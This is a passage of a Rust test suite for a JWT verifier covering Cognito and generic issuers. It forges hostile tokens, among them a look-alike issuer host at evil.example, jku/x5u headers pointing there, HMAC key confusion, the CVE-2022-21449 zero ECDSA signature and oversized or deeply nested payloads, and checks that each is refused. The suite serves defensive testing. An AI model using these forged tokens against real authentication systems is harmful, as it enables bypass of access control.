        mal(MalformedToken::Json(Segment::Header)),
    );
    add(
        "header JSON truncated",
        Access,
        w.access()
            .raw_header_json(r#"{"kid":"test-key-1","alg":"RS256""#.into())
            .build(),
        mal(MalformedToken::Json(Segment::Header)),
    );
    add(
        "header JSON with trailing data",
        Access,
        w.access()
            .raw_header_json(r#"{"kid":"test-key-1","alg":"RS256"}{"alg":"none"}"#.into())
            .build(),
        mal(MalformedToken::Json(Segment::Header)),
    );
    add(
        "header is an empty object",
        Access,
        w.access().raw_header_json("{}".into()).build(),
        hdr(HeaderError::MissingAlgorithm),
    );
    for (what, json_text) in [
        ("an array", r#"[{"sub":"x"}]"#),
        ("a string", r#""sub""#),
        ("null", "null"),
        ("a number", "42"),
    ] {
        add(
            &format!("payload is {what}"),
            Access,
            w.access().raw_payload_json(json_text.into()).build(),
            mal(MalformedToken::NotAnObject(Segment::Payload)),
        );
    }
    add(
        "payload is not JSON",
        Access,
        w.access()
            .raw_payload_json("not json at all".into())
            .build(),
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload with trailing data after the object",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            b.raw_payload_json(format!("{p}{{\"sub\":\"attacker\"}}"))
                .build()
        },
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload with a UTF-8 byte order mark",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            b.raw_payload_json(format!("\u{feff}{p}")).build()
        },
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload with 4000 nested arrays in an unknown claim",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            let deep = format!("{}{}", "[".repeat(4000), "]".repeat(4000));
            b.raw_payload_json(format!("{},\"deep\":{deep}}}", &p[..p.len() - 1]))
                .build()
        },
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload with 200 nested objects in an unknown claim",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            let deep = format!("{}1{}", "{\"a\":".repeat(200), "}".repeat(200));
            b.raw_payload_json(format!("{},\"deep\":{deep}}}", &p[..p.len() - 1]))
                .build()
        },
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload with invalid UTF-8 in an unknown claim, validly signed",
        Access,
        {
            let p = w.access().payload_json();
            let mut bytes = p.as_bytes()[..p.len() - 1].to_vec();
            bytes.extend_from_slice(b",\"x\":\"\xff\xfe\"}");
            sign_raw(&real, br#"{"kid":"test-key-1","alg":"RS256"}"#, &bytes)
        },
        mal(MalformedToken::Json(Segment::Payload)),
    );
    add(
        "payload is an empty object, validly signed",
        Access,
        w.access().raw_payload_json("{}".into()).build(),
        claim(ClaimError::Missing("iss")),
    );
    let big = w.access().claim("pad", "a".repeat(17_000)).build();
    let big_len = big.len();
    add(
        "token over the 16 KiB cap",
        Access,
        big,
        Error::TokenTooLarge {
            size: big_len,
            max: MAX_TOKEN,
        },
    );
    let huge = "A".repeat(1024 * 1024);
    add(
        "1 MiB of one segment",
        Access,
        huge,
        Error::TokenTooLarge {
            size: 1024 * 1024,
            max: MAX_TOKEN,
        },
    );

    // ---- time claims ----
    add(
        "exp missing",
        Access,
        w.access().remove_claim("exp").build(),
        claim(ClaimError::Missing("exp")),
    );
    for (what, value) in [
        ("a string", json!((now + 3600).to_string())),
        ("a bool", json!(true)),
        ("a huge float 1e300", json!(1e300)),
        ("negative", json!(-1)),
        ("null", Value::Null),
        ("u64::MAX", json!(u64::MAX)),
        ("i64::MIN", json!(i64::MIN)),
        ("past year 9999", json!(253_402_300_800_i64)),
        ("an array", json!([now + 3600])),
        ("an object", json!({"$date": now + 3600})),
    ] {
        add(
            &format!("exp is {what}"),
            Access,
            w.access().claim("exp", value).build(),
            invalid("exp", NUMERIC_DATE),
        );
    }
    add(
        "exp 0",
        Access,
        w.access().claim("exp", 0).build(),
        claim(ClaimError::Expired { exp: 0, now }),
    );
    add(
        "expired an hour ago",
        Access,
        w.access().claim("exp", now - 3600).build(),
        claim(ClaimError::Expired {
            exp: now - 3600,
            now,
        }),
    );
    add(
        "expired exactly at the leeway edge",
        Access,
        w.access().claim("exp", now - 30).build(),
        claim(ClaimError::Expired { exp: now - 30, now }),
    );
    add(
        "expired by the leeway plus one second",
        Access,
        w.access().claim("exp", now - 31).build(),
        claim(ClaimError::Expired { exp: now - 31, now }),
    );
    add(
        "nbf an hour in the future",
        Access,
        w.access().not_before(now + 3600).build(),
        claim(ClaimError::NotYetValid {
            nbf: now + 3600,
            now,
        }),
    );
    add(
        "nbf just beyond the leeway",
        Access,
        w.access().not_before(now + 31).build(),
        claim(ClaimError::NotYetValid { nbf: now + 31, now }),
    );
    add(
        "nbf is a string",
        Access,
        w.access().claim("nbf", now.to_string()).build(),
        invalid("nbf", NUMERIC_DATE),
    );
    add(
        "iat an hour in the future",
        Access,
        w.pool.access_token().issued_at(now + 3600).build(),
        claim(ClaimError::IssuedInFuture {
            iat: now + 3600,
            now,
        }),
    );
    add(
        "iat just beyond the leeway",
        Access,
        w.pool.access_token().issued_at(now + 31).build(),
        claim(ClaimError::IssuedInFuture { iat: now + 31, now }),
    );
    add(
        "iat negative",
        Access,
        w.access().claim("iat", -5).build(),
        invalid("iat", NUMERIC_DATE),
    );

    // ---- iss ----
    add(
        "iss missing",
        Access,
        w.access().remove_claim("iss").build(),
        claim(ClaimError::Missing("iss")),
    );
    add(
        "iss is a number",
        Access,
        w.access().claim("iss", 1).build(),
        invalid("iss", "a string"),
    );
    add(
        "iss is null",
        Access,
        w.access().claim("iss", Value::Null).build(),
        invalid("iss", "a string"),
    );
    add(
        "iss is an array holding the trusted issuer",
        Access,
        w.access().claim("iss", json!([ISS])).build(),
        invalid("iss", "a string"),
    );
    let long_iss = format!("{ISS}/{}", "x".repeat(500));
    for (what, iss) in [
        (
            "another pool",
            "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_OtherPool".to_owned(),
        ),
        (
            "another region",
            "https://cognito-idp.eu-west-1.amazonaws.com/us-east-1_TestPool1".to_owned(),
        ),
        ("a trailing slash", format!("{ISS}/")),
        (
            "the http scheme",
            "http://cognito-idp.us-east-1.amazonaws.com/us-east-1_TestPool1".to_owned(),
        ),
        (
            "the issuer-cognito-idp form of another pool",
            "https://issuer-cognito-idp.us-east-1.amazonaws.com/us-east-1_OtherPool".to_owned(),
        ),
        (
            "the pool id in lower case",
            "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_testpool1".to_owned(),
        ),
        (
            "the host in upper case",
            "https://COGNITO-IDP.us-east-1.amazonaws.com/us-east-1_TestPool1".to_owned(),
        ),
        ("a leading space", format!(" {ISS}")),
        ("a query string", format!("{ISS}?x=1")),
        ("the JWKS URL", format!("{ISS}/.well-known/jwks.json")),
        (
            "a look-alike host",
            "https://cognito-idp.us-east-1.amazonaws.com.evil.example/us-east-1_TestPool1"
                .to_owned(),
        ),
        ("the generic issuer", GENERIC_ISS.to_owned()),
    ] {
        add(
            &format!("iss with {what}"),
            Access,
            w.access().claim("iss", iss.as_str()).build(),
            untrusted(&iss),
        );
    }
    add(
        "iss of 500+ bytes (capped in the error)",
        Access,
        w.access().claim("iss", long_iss.as_str()).build(),
        untrusted(&format!("{}…", &long_iss[..128])),
    );

    // ---- token_use ----
    add(
        "token_use missing",
        Access,
        w.access().remove_claim("token_use").build(),
        claim(ClaimError::Missing("token_use")),
    );
    for actual in ["ID", "Access", "refresh", "access ", ""] {
        add(
            &format!("token_use {actual:?}"),
            Access,
            w.access().claim("token_use", actual).build(),
            wrong_use("access", actual),
        );
    }
    add(
        "token_use is a number",
        Access,
        w.access().claim("token_use", 1).build(),
        invalid("token_use", "a string"),
    );
    add(
        "token_use is an array",
        Access,
        w.access().claim("token_use", json!(["access"])).build(),
        invalid("token_use", "a string"),
    );
    add(
        "ID token on an access verifier",
        Access,
        w.id().build(),
        wrong_use("access", "id"),
    );
    add(
        "access token on an ID verifier",
        Id,
        w.access().build(),
        wrong_use("id", "access"),
    );

    // ---- app client ----
    add(
        "client_id of another client",
        Access,
        w.access().client_id("otherclient0000000000000").build(),
        client_not_allowed("otherclient0000000000000"),
    );
    add(
        "client_id in upper case",
        Access,
        w.access()
            .client_id(DEFAULT_CLIENT_ID.to_uppercase())
            .build(),
        client_not_allowed(&DEFAULT_CLIENT_ID.to_uppercase()),
    );
    add(
        "client_id empty",
        Access,
        w.access().client_id("").build(),
        client_not_allowed(""),
    );
    add(
        "client_id missing",
        Access,
        w.access().remove_claim("client_id").build(),
        claim(ClaimError::Missing("client_id")),
    );
    add(
        "client_id missing, aud names the client",
        Access,
        w.access()
            .remove_claim("client_id")
            .claim("aud", DEFAULT_CLIENT_ID)
            .build(),
        claim(ClaimError::Missing("client_id")),
    );
    add(
        "client_id is a number",
        Access,
        w.access().claim("client_id", 1).build(),
        invalid("client_id", "a string"),
    );
    add(
        "ID token with aud of another client",
        Id,
        w.id().client_id("otherclient").build(),
        client_not_allowed("otherclient"),
    );
    add(
        "ID token with aud of two other clients",
        Id,
        w.id().claim("aud", json!(["other1", "other2"])).build(),
        invalid(
            "aud",
            "one app client (a Cognito ID token names exactly one)",
        ),
    );
    add(
        "ID token with aud missing",
        Id,
        w.id().remove_claim("aud").build(),
        claim(ClaimError::Missing("aud")),
    );
    add(
        "ID token with aud missing, client_id set",
        Id,
        w.id()
            .remove_claim("aud")
            .claim("client_id", DEFAULT_CLIENT_ID)
            .build(),
        claim(ClaimError::Missing("aud")),
    );
    add(
        "ID token with aud an empty array",
        Id,
        w.id().claim("aud", json!([])).build(),
        claim(ClaimError::Missing("aud")),
    );
    add(
        "ID token with aud holding a number",
        Id,
        w.id().claim("aud", json!([DEFAULT_CLIENT_ID, 1])).build(),
        invalid("aud", "a string or an array of strings"),
    );
    let aud_mismatch = claim(ClaimError::AudienceMismatch {
        expected: API_AUDIENCE.into(),
    });
    add(
        "access token with aud of another resource",
        Aud,
        w.access()
            .claim("aud", "https://api.example.com/billing")
            .build(),
        aud_mismatch.clone(),
    );
    add(
        "access token without aud where one is required",
        Aud,
        w.access().build(),
        aud_mismatch.clone(),
    );
    add(
        "access token with aud extending the required one",
        Aud,
        w.access().claim("aud", format!("{API_AUDIENCE}/x")).build(),
        aud_mismatch.clone(),
    );
    add(
        "access token with aud = the client id where a resource is required",
        Aud,
        w.access().claim("aud", DEFAULT_CLIENT_ID).build(),
        aud_mismatch,
    );

    // ---- other claims ----
    add(
        "sub missing",
        Access,
        w.access().remove_claim("sub").build(),
        claim(ClaimError::Missing("sub")),
    );
    add(
        "sub is a number",
        Access,
        w.access().claim("sub", 42).build(),
        invalid("sub", "a string"),
    );
    add(
        "scope is an array",
        Access,
        w.access().claim("scope", json!(["orders/read"])).build(),
        invalid("scope", "a string"),
    );
    add(
        "cognito:groups is a string",
        Access,
        w.access().claim("cognito:groups", "admin").build(),
        invalid("cognito:groups", "an array of strings"),
    );

    // ---- keys in the published JWKS that must not be used ----
    add(
        "weak 1024-bit key published (skipped)",
        Access,
        signed_by(w.access(), &w.weak).build(),
        unknown("weak-1024"),
    );
    add(
        "JWK with use=enc (skipped)",
        Access,
        signed_by(w.access(), &w.enc_key).build(),
        unknown("enc-key"),
    );
    add(
        "JWK whose key_ops lack verify (skipped)",
        Access,
        signed_by(w.access(), &w.ops_key).build(),
        unknown("ops-key"),
    );
    add(
        "JWK alg RS512 on an RS256-pinned pool, header RS256 (skipped)",
        Access,
        w.access()
            .sign_with(&w.rs512_on_pool.clone().with_alg(Alg::RS256))
            .kid("rs512-key")
            .build(),
        unknown("rs512-key"),
    );
    add(
        "oct JWK (kid hmac-key), RS256 header",
        Access,
        w.access().kid("hmac-key").build(),
        unknown("hmac-key"),
    );
    add(
        "oct JWK under the real kid, HS256 keyed with its k",
        Access,
        hmac_token("HS256", real.kid(), &payload, &n_bytes),
        not_allowed("HS256"),
    );
    add(
        "EC key published on the pool, header RS256",
        Access,
        w.access().sign_with(&w.ec_on_pool).kid("ec-key").build(),
        unknown("ec-key"),
    );

    // ---- another pool's keys ----
    let pool_b_key = w.pool_b.current_key();
    add(
        "pool A issuer, signed with pool B's key and kid",
        Multi,
        signed_by(w.access(), &pool_b_key).build(),
        unknown("pool-b-key"),
    );
    add(
        "pool A issuer, pool B's key under pool A's kid",
        Multi,
        w.access().sign_with(&pool_b_key).build(),
        Error::InvalidSignature,
    );
    add(
        "pool B issuer, signed with pool A's key and kid",
        Multi,
        w.pool_b
            .access_token()
            .issued_at(now)
            .sign_with(&real)
            .kid(real.kid())
            .build(),
        unknown("test-key-1"),
    );
    add(
        "pool B token on a verifier for pool A only",
        Access,
        w.pool_b.access_token().issued_at(now).build(),
        untrusted(ISS_B),
    );

    // ---- ECDSA / EdDSA / key-type confusion on a generic issuer ----
    add(
        "ES256 r = s = 0 (CVE-2022-21449)",
        Generic,
        w.generic(&w.g_ec).signature_bytes(vec![0; 64]).build(),
        Error::InvalidSignature,
    );
    add(
        "ES256 r = s = n",
        Generic,
        w.generic(&w.g_ec)
            .signature_bytes([P256_N, P256_N].concat())
            .build(),
        Error::InvalidSignature,
    );
    let ec_sig = signature_of(&w.generic(&w.g_ec).build());
    add(
        "ES256 r = 0 with a real s",
        Generic,
        w.generic(&w.g_ec)
            .signature_bytes([&[0u8; 32][..], &ec_sig[32..]].concat())
            .build(),
        Error::InvalidSignature,
    );
    add(
        "ES256 DER-encoded signature",
        Generic,
        {
            let b = w.generic(&w.g_ec);
            let t = b.clone().build();
            b.signature_bytes(ecdsa_der(&signature_of(&t))).build()
        },
        Error::InvalidSignature,
    );
    add(
        "ES256 signature of 63 bytes",
        Generic,
        {
            let b = w.generic(&w.g_ec);
            let t = b.clone().build();
            b.signature_bytes(signature_of(&t)[..63].to_vec()).build()
        },
        Error::InvalidSignature,
    );
    add(
        "EdDSA all-zero signature",
        Generic,
        w.generic(&w.g_ed).signature_bytes(vec![0; 64]).build(),
        Error::InvalidSignature,
    );
    add(
        "EdDSA signature with S >= L",
        Generic,
        {
            let b = w.generic(&w.g_ed);
            let t = b.clone().build();
            let mut sig = signature_of(&t);
            sig[32..].fill(0xff);
            b.signature_bytes(sig).build()
        },
        Error::InvalidSignature,
    );
    add(
        "RS256 header on a key whose JWK pins PS256",
        Generic,
        w.generic(&w.g_ps)
            .sign_with(&w.g_ps.clone().with_alg(Alg::RS256))
            .alg("RS256")
            .build(),
        Error::KeyAlgorithmMismatch {
            kid: "ps-1".into(),
            alg: "RS256",
        },
    );
    add(
        "RS256 header on a key whose JWK pins RS512",
        Generic,
        w.generic(&w.g_rs512)
            .sign_with(&w.g_rs512.clone().with_alg(Alg::RS256))
            .alg("RS256")
            .build(),
        Error::KeyAlgorithmMismatch {
            kid: "rs512-1".into(),
            alg: "RS256",
        },
    );
    add(
        "PS256 header with a PKCS#1 v1.5 signature",
        Generic,
        w.generic(&w.g_ps)
            .sign_with(&w.g_ps.clone().with_alg(Alg::RS256))
            .build(),
        Error::InvalidSignature,
    );
    add(
        "EdDSA header on an EC key",
        Generic,
        w.generic(&w.g_ec).alg("EdDSA").build(),
        Error::KeyAlgorithmMismatch {
            kid: "ec-1".into(),
            alg: "EdDSA",
        },
    );
    add(
        "ES256 header on an Ed25519 key",
        Generic,
        w.generic(&w.g_ed).alg("ES256").build(),
        Error::KeyAlgorithmMismatch {
            kid: "ed-1".into(),
            alg: "ES256",
        },
    );
    add(
        "ES384 on a generic issuer that does not allow it",
        Generic,
        w.generic(&SigningKey::ec_p384("ec-384")).build(),
        not_allowed("ES384"),
    );
    add(
        "HS256 on a generic issuer",
        Generic,
        hmac_token(
            "HS256",
            "ec-1",
            &w.generic(&w.g_ec).payload_json(),
            w.g_ec.public_jwk().to_string().as_bytes(),
        ),
        not_allowed("HS256"),
    );

    rows
}

fn valid_rows(w: &World) -> Vec<(String, V, String)> {
    let now = w.now;
    use V::{Access, Aud, Generic, Id, Multi, NoLeeway};
    let mut rows: Vec<(String, V, String)> = Vec::new();
    let mut ok = |name: &str, v: V, token: String| rows.push((name.to_owned(), v, token));
    ok("access token", Access, w.access().build());
    ok(
        "access token with scopes and groups",
        Access,
        w.access()
            .scopes(&["openid", "orders/read"])
            .groups(&["admin", "users"])
            .build(),
    );
    ok("machine token", Access, w.machine().build());
    ok("ID token", Id, w.id().build());
    ok(
        "access token, issuer-cognito-idp form",
        Access,
        w.access().claim("iss", ISS_NEW).build(),
    );
    ok(
        "ID token, issuer-cognito-idp form",
        Id,
        w.id().claim("iss", ISS_NEW).build(),
    );
    ok(
        "ID token with one aud in an array (RFC 7519 allows it)",
        Id,
        w.id().claim("aud", json!([DEFAULT_CLIENT_ID])).build(),
    );
    ok(
        "fractional times inside the window, no leeway",
        NoLeeway,
        w.access()
            .claim("nbf", w.now as f64 - 0.5)
            .claim("iat", w.now as f64 - 0.5)
            .claim("exp", w.now as f64 + 60.5)
            .build(),
    );
    ok(
        "string jti, origin_jti and event_id",
        Access,
        w.access()
            .claim("jti", "j-1")
            .claim("origin_jti", "o-1")
            .claim("event_id", "e-1")
            .build(),
    );
    ok(
        "ES256 on a generic issuer",
        Generic,
        w.generic(&w.g_ec).build(),
    );
    ok(
        "PS256 on a generic issuer",
        Generic,
        w.generic(&w.g_ps).build(),
    );
    ok(
        "EdDSA on a generic issuer",
        Generic,
        w.generic(&w.g_ed).build(),
    );
    ok(
        "RS512 on a generic issuer",
        Generic,
        w.generic(&w.g_rs512).build(),
    );
    ok(
        "extra unknown claims (trigger additions)",
        Access,
        w.access()
            .claim("custom:tenant", "acme")
            .claim("nested", json!({"a": [1, 2, {"b": null}], "c": 1.5}))
            .claim("version", 2)
            .claim("ünïcödé", "✓")
            .claim("device_key", Value::Null)
            .build(),
    );
    ok("unknown claim nested 100 levels deep", Access, {
        let b = w.access();
        let p = b.payload_json();
        let deep = format!("{}{}", "[".repeat(100), "]".repeat(100));
        b.raw_payload_json(format!("{},\"deep\":{deep}}}", &p[..p.len() - 1]))
            .build()
    });
    ok(
        "nbf within the leeway",
        Access,
        w.access().not_before(now + 29).build(),
    );
    ok(
        "iat within the leeway",
        Access,
        w.pool.access_token().issued_at(now + 29).build(),
    );
    ok(
        "exp within the leeway",
        Access,
        w.access().claim("exp", now - 29).build(),
    );
    ok(
        "float exp and iat",
        Access,
        w.access()
            .claim("exp", now as f64 + 3600.5)
            .claim("iat", now as f64 - 0.25)
            .build(),
    );
    ok(
        "header typ JWT",
        Access,
        w.access().header("typ", "JWT").build(),
    );
    ok(
        "jku / x5u / x5t headers are ignored when the real key signs",
        Access,
        w.access()
            .header("jku", "https://evil.example/jwks.json")
            .header("x5u", "https://evil.example/cert.pem")
            .header("x5t", "abc")
            .build(),
    );
    ok(
        "aud on an access token is ignored when no audience is required",
        Access,
        w.access().claim("aud", "https://anything.example").build(),
    );
    ok(
        "scope with odd spacing and a tab",
        Access,
        w.access()
            .claim("scope", "  openid\torders/read   orders/write ")
            .build(),
    );
    ok(
        "required audience present",
        Aud,
        w.access().claim("aud", API_AUDIENCE).build(),
    );
    ok(
        "required audience among several",
        Aud,
        w.access()
            .claim("aud", json!(["https://other.example", API_AUDIENCE]))
            .build(),
    );
    ok(
        "pool A token on a two-pool verifier",
        Multi,
        w.access().build(),
    );
    ok(
        "pool B token on a two-pool verifier",
        Multi,
        w.pool_b.access_token().issued_at(now).build(),
    );
    rows
}

/// The message and debug text of an error never contain the token's payload or signature.
fn leaks(err: &Error, token: &str) -> Option<String> {
    let texts = [err.to_string(), format!("{err:?}")];
    for (i, part) in token.split('.').enumerate().skip(1) {
        if part.len() < 16 {
            continue;
        }
        if texts.iter().any(|t| t.contains(part)) {
            return Some(format!("segment {i} appears in {texts:?}"));
        }
    }
    None
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_token_is_refused_with_its_exact_error() {
    let world = World::new();
    let rows = hostile_rows(&world);
    assert!(rows.len() >= 60, "only {} hostile rows", rows.len());
    eprintln!("{} hostile rows", rows.len());
    let mut failures = Vec::new();
    for row in &rows {
        let verifier = world.verifiers.get(row.verifier);
        match verifier.verify(&row.token).await {
            Ok(claims) => failures.push(format!(
                "[{}] ACCEPTED (sub {:?}), expected {:?}",
                row.name,
                claims.sub(),
                row.expected
            )),
            Err(err) => {
                if err != row.expected {
                    failures.push(format!(
                        "[{}] got {err:?}, expected {:?}",
                        row.name, row.expected
                    ));
                }
                if err.class() != ErrorClass::InvalidToken {
                    failures.push(format!("[{}] class {:?}", row.name, err.class()));
                }
                if let Some(leak) = leaks(&err, &row.token) {
                    failures.push(format!("[{}] echoes the token: {leak}", row.name));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} hostile rows failed:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_valid_token_passes() {
    let world = World::new();
    let rows = valid_rows(&world);
    let mut failures = Vec::new();
    for (name, v, token) in &rows {
        match world.verifiers.get(*v).verify(token).await {
            Ok(claims) => {
                let iss = serde_json::from_str::<Value>(claims.payload_json()).unwrap()["iss"]
                    .as_str()
                    .unwrap()
                    .to_owned();
                // Every verifier allows the one testkit client, and the
                // client a token names is the one it was issued to.
                if claims.client_id() != Some(DEFAULT_CLIENT_ID) {
                    failures.push(format!("[{name}] client_id {:?}", claims.client_id()));
                }
                if claims.issuer() != iss {
                    failures.push(format!("[{name}] issuer {:?} != {iss:?}", claims.issuer()));
                }
                // Everything that verifies can be read back in full.
                if claims.get("iss").and_then(Value::as_str) != Some(iss.as_str()) {
                    failures.push(format!("[{name}] Claims::all() lost the claims"));
                }
                let typed = match claims.token_use() {
                    TokenUse::Access => claims.access_token().is_some(),
                    TokenUse::Id => claims.id_token().is_some(),
                };
                if !typed {
                    failures.push(format!("[{name}] no typed claims view"));
                }
            }
            Err(err) => failures.push(format!("[{name}] rejected: {err:?}")),
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} valid rows failed:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

/// A flood of random kids: each fails as unknown, and together they cost one refetch.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_unknown_kids_costs_at_most_one_refetch() {
    let issuer = TestIssuer::cognito();
    let server = JwksServer::start(&issuer);
    let v = Verifier::builder(Issuer::cognito(POOL).jwks_url(server.url()))
        .client_ids([DEFAULT_CLIENT_ID])
        .token_use(TokenUse::Access)
        .jwks_options(JwksOptions {
            unknown_kid_cooldown: std::time::Duration::from_secs(120),
            ..JwksOptions::default()
        })
        .build()
        .unwrap();
    v.verify(&issuer.access_token().build()).await.unwrap();
    assert_eq!(server.fetch_count(), 1);
    for i in 0..200 {
        let kid = format!("random-kid-{i}");
        let err = v
            .verify(&issuer.access_token().kid(kid.as_str()).build())
            .await
            .unwrap_err();
        assert_eq!(err, unknown(&kid));
    }
    assert_eq!(
        server.fetch_count(),
        2,
        "200 bogus kids within the cooldown cause exactly one refetch"
    );
}
